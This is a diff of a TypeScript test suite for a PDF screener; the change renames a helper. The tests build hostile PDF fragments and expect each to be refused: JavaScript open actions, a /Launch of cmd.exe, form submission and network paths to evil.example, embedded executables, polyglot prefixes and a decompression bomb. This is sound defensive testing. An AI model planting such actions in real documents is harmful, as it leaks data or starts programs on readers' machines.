@@ -24,21 +24,21 @@ describe('a PDF', () => {
     ['in objects that we cannot read', hostile.unreadableObjects, 'damaged'],
     [
       'behind a name of its own',
-      () => hostile.pdfOf('/OpenAction << /S 4 0 R /JS 5 0 R >>', ['/JavaScript', '(x)']),
+      () => hostile.toPdf('/OpenAction << /S 4 0 R /JS 5 0 R >>', ['/JavaScript', '(x)']),
       'scripted',
     ],
-    ['under the first of two names', () => hostile.pdfOf('/OpenAction << /S /JavaScript /S /GoTo >>'), 'scripted'],
-    ['in an object without an end', () => hostile.pdfOf('', ['<< /S /JavaScript /JS (x) /Bad @@']), 'scripted'],
+    ['under the first of two names', () => hostile.toPdf('/OpenAction << /S /JavaScript /S /GoTo >>'), 'scripted'],
+    ['in an object without an end', () => hostile.toPdf('', ['<< /S /JavaScript /JS (x) /Bad @@']), 'scripted'],
     [
       'in a form of the dynamic kind',
-      () => hostile.pdfOf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['(<xdp/>)']),
+      () => hostile.toPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['(<xdp/>)']),
       'scripted',
     ],
     [
       'in a trailer',
       () =>
         Buffer.from(
-          hostile.pdfOf('').toString('latin1').replace('/Root 1 0 R', '/Root << /OpenAction << /S 4 0 R /JS (x) >> >>'),
+          hostile.toPdf('').toString('latin1').replace('/Root 1 0 R', '/Root << /OpenAction << /S 4 0 R /JS (x) >> >>'),
           'latin1',
         ),
       'scripted',
@@ -46,31 +46,31 @@ describe('a PDF', () => {
   ])('with a script %s is refused', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));
 
   it.each<[string, () => Buffer, string]>([
-    ['starts a program', () => hostile.pdfOf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'scripted'],
-    ['sends a form', () => hostile.pdfOf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), 'sending'],
-    ['fetches data', () => hostile.pdfOf('/OpenAction << /S /ImportData /F (a.fdf) >>'), 'sending'],
+    ['starts a program', () => hostile.toPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'scripted'],
+    ['sends a form', () => hostile.toPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), 'sending'],
+    ['fetches data', () => hostile.toPdf('/OpenAction << /S /ImportData /F (a.fdf) >>'), 'sending'],
     [
       'goes to a network path',
-      () => hostile.pdfOf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>'),
+      () => hostile.toPdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>'),
       'network',
     ],
     [
       'goes to a network path by its long name',
-      () => hostile.pdfOf('/OpenAction << /S /GoToR /F 4 0 R >>', ['<< /Type /Filespec /UF (//evil.example/a) >>']),
+      () => hostile.toPdf('/OpenAction << /S /GoToR /F 4 0 R >>', ['<< /Type /Filespec /UF (//evil.example/a) >>']),
       'network',
     ],
     [
       'draws from a network path',
-      () => hostile.pdfOf('', ['<< /Length 0 /F << /FS /URL /F (http://evil.example/a) >> >>\nstream\n\nendstream']),
+      () => hostile.toPdf('', ['<< /Length 0 /F << /FS /URL /F (http://evil.example/a) >> >>\nstream\n\nendstream']),
       'network',
     ],
     [
       'opens a file by a link',
-      () => hostile.pdfOf('/OpenAction << /S /URI /URI (file://evil.example/a) >>'),
+      () => hostile.toPdf('/OpenAction << /S /URI /URI (file://evil.example/a) >>'),
       'network',
     ],
-    ['plays media', () => hostile.pdfOf('', ['<< /Type /Annot /Subtype /RichMedia >>']), 'media'],
-    ['plays a rendition', () => hostile.pdfOf('/OpenAction << /S /Rendition >>'), 'media'],
+    ['plays media', () => hostile.toPdf('', ['<< /Type /Annot /Subtype /RichMedia >>']), 'media'],
+    ['plays a rendition', () => hostile.toPdf('/OpenAction << /S /Rendition >>'), 'media'],
     ['carries a program', () => hostile.pdfWithFile('setup.exe', hostile.program), 'attached'],
     ['carries a program by another name', () => hostile.pdfWithFile('data.xml', hostile.program), 'attached'],
     ['carries a batch file', () => hostile.pdfWithFile('run.bat', Buffer.from('@echo off')), 'attached'],
@@ -79,11 +79,11 @@ describe('a PDF', () => {
       () => hostile.pdfWithFile('a.pdf', hostile.packedScript(['FlateDecode'])),
       'attached',
     ],
-    ['has program bytes before it', () => hostile.pdfOf('', [], 'MZ\x90\0'), 'other'],
-    ['has a shell script before it', () => hostile.pdfOf('', [], '#!/bin/sh\n'), 'other'],
+    ['has program bytes before it', () => hostile.toPdf('', [], 'MZ\x90\0'), 'other'],
+    ['has a shell script before it', () => hostile.toPdf('', [], '#!/bin/sh\n'), 'other'],
     [
       'is an archive to whoever reads from its end',
-      () => Buffer.concat([hostile.pdfOf(''), hostile.workbookWith({})]),
+      () => Buffer.concat([hostile.toPdf(''), hostile.workbookWith({})]),
       'other',
     ],
     ['swells', () => hostile.swellingPdf(276), 'bomb'],
@@ -91,8 +91,8 @@ describe('a PDF', () => {
   ])('that %s is refused', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));
 
   it.each<[string, () => Buffer | Promise<Buffer>]>([
-    ['with a link to the web', () => hostile.pdfOf('/OpenAction << /S /URI /URI (https://buyer.example) >>')],
-    ['that goes to a file beside it', () => hostile.pdfOf('/OpenAction << /S /GoToR /F (annexure.pdf) /D [0 /Fit] >>')],
+    ['with a link to the web', () => hostile.toPdf('/OpenAction << /S /URI /URI (https://buyer.example) >>')],
+    ['that goes to a file beside it', () => hostile.toPdf('/OpenAction << /S /GoToR /F (annexure.pdf) /D [0 /Fit] >>')],
     [
       'that carries its data as XML',
       () => hostile.pdfWithFile('factur-x.xml', Buffer.from('<?xml version="1.0"?><Invoice/>')),
@@ -101,14 +101,14 @@ describe('a PDF', () => {
       'whose attached PDF is not compressed and has object streams',
       () => readFileSync('tests/lib/examples/uncompressed-attachment.pdf'),
     ],
-    ['that carries another PDF', () => hostile.pdfWithFile('annexure.pdf', hostile.pdfOf(''))],
-    ['after a byte order mark', () => hostile.pdfOf('', [], '\u00ef\u00bb\u00bf\r\n')],
+    ['that carries another PDF', () => hostile.pdfWithFile('annexure.pdf', hostile.toPdf(''))],
+    ['after a byte order mark', () => hostile.toPdf('', [], '\u00ef\u00bb\u00bf\r\n')],
     [
       'after the words of a printer',
-      () => hostile.pdfOf('', [], '\u001b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'),
+      () => hostile.toPdf('', [], '\u001b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'),
     ],
     ['whose pages are long', () => hostile.swellingPage(276)],
-    ['with a title that speaks of scripts', () => hostile.pdfOf('/Title (about /Launch and /JavaScript)')],
+    ['with a title that speaks of scripts', () => hostile.toPdf('/Title (about /Launch and /JavaScript)')],
     ['that everybody may open but not change', () => hostile.encryptedPdf('')],
   ])('%s is taken', async (_, make) => expect(['match', 'protected']).toContain(await judge(await make())));
 
